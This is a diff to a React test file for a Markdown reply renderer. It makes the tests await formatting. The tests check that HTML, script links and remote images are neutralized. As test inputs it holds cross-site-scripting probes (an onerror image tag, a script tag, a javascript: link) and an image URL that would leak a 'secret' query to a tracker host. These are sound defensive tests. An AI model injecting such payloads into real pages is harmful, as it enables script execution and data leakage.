@@ -1,19 +1,24 @@
 // @vitest-environment happy-dom
-import { cleanup, render, screen } from "@testing-library/react";
+import { cleanup, render, screen, waitFor } from "@testing-library/react";
 import userEvent from "@testing-library/user-event";
 import { afterEach, describe, expect, it, vi } from "vitest";
 import { ReplyMarkdown } from "./ReplyMarkdown";
 
 afterEach(cleanup);
 
+/** Renders a reply and waits until its Markdown has been formatted. */
+async function renderReply(text: string) {
+  const view = render(<ReplyMarkdown text={text} />);
+  await waitFor(() => expect(view.container.querySelector("[data-formatted]")).not.toBeNull());
+  return view;
+}
+
 describe("ReplyMarkdown", () => {
-  it("shows HTML in a reply as text: no image, no script, nothing runs", () => {
+  it("shows HTML in a reply as text: no image, no script, nothing runs", async () => {
     const alert = vi.fn();
     vi.stubGlobal("alert", alert);
-    const { container } = render(
-      <ReplyMarkdown
-        text={'Look: <img src=x onerror=alert(1)> and <script>alert("hi")</script> done'}
-      />,
+    const { container } = await renderReply(
+      'Look: <img src=x onerror=alert(1)> and <script>alert("hi")</script> done',
     );
     expect(container.querySelector("img")).toBeNull();
     expect(container.querySelector("script")).toBeNull();
@@ -24,11 +29,9 @@ describe("ReplyMarkdown", () => {
     vi.unstubAllGlobals();
   });
 
-  it("renders Markdown: emphasis, lists, GFM tables and strikethrough", () => {
-    const { container } = render(
-      <ReplyMarkdown
-        text={"**bold** and ~~gone~~\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |"}
-      />,
+  it("renders Markdown: emphasis, lists, GFM tables and strikethrough", async () => {
+    const { container } = await renderReply(
+      "**bold** and ~~gone~~\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
     );
     expect(container.querySelector("strong")?.textContent).toBe("bold");
     expect(container.querySelector("del")?.textContent).toBe("gone");
@@ -36,11 +39,9 @@ describe("ReplyMarkdown", () => {
     expect(screen.getByRole("table")).toBeTruthy();
   });
 
-  it("opens web links in a new tab that cannot reach back, and drops script links", () => {
-    const { container } = render(
-      <ReplyMarkdown
-        text={"[docs](https://example.com/docs) [trap](javascript:alert(1)) [local](/settings)"}
-      />,
+  it("opens web links in a new tab that cannot reach back, and drops script links", async () => {
+    const { container } = await renderReply(
+      "[docs](https://example.com/docs) [trap](javascript:alert(1)) [local](/settings)",
     );
     const link = screen.getByRole("link", { name: "docs" });
     expect(link.getAttribute("href")).toBe("https://example.com/docs");
@@ -53,10 +54,8 @@ describe("ReplyMarkdown", () => {
     expect(container.innerHTML).not.toContain("javascript:");
   });
 
-  it("never loads a Markdown image: it becomes a link to it", () => {
-    const { container } = render(
-      <ReplyMarkdown text={"![a cat](https://tracker.example/leak?q=secret)"} />,
-    );
+  it("never loads a Markdown image: it becomes a link to it", async () => {
+    const { container } = await renderReply("![a cat](https://tracker.example/leak?q=secret)");
     expect(container.querySelector("img")).toBeNull();
     const link = screen.getByRole("link", { name: "Image: a cat" });
     expect(link.getAttribute("href")).toBe("https://tracker.example/leak?q=secret");
@@ -67,7 +66,7 @@ describe("ReplyMarkdown", () => {
     // After setup: user-event installs its own clipboard, which this replaces.
     const writeText = vi.fn(async (_text: string) => {});
     Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
-    render(<ReplyMarkdown text={"Run this:\n\n```sh\nnpm test\nnpm run build\n```\n"} />);
+    await renderReply("Run this:\n\n```sh\nnpm test\nnpm run build\n```\n");
 
     expect(screen.getByText("sh")).toBeTruthy();
     await user.click(screen.getByRole("button", { name: "Copy code" }));
@@ -82,13 +81,13 @@ describe("ReplyMarkdown", () => {
       throw new Error("denied");
     });
     Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
-    render(<ReplyMarkdown text={"```\nx\n```"} />);
+    await renderReply("```\nx\n```");
     await user.click(screen.getByRole("button", { name: "Copy code" }));
     expect(await screen.findByRole("button", { name: "Copy failed" })).toBeTruthy();
   });
 
-  it("starts a reply's headings at h3, under the page's h1 and the panel's h2", () => {
-    render(<ReplyMarkdown text={"# Big\n\n## Smaller"} />);
+  it("starts a reply's headings at h3, under the page's h1 and the panel's h2", async () => {
+    await renderReply("# Big\n\n## Smaller");
     expect(screen.getByRole("heading", { name: "Big" }).tagName).toBe("H3");
     expect(screen.getByRole("heading", { name: "Smaller" }).tagName).toBe("H4");
   });
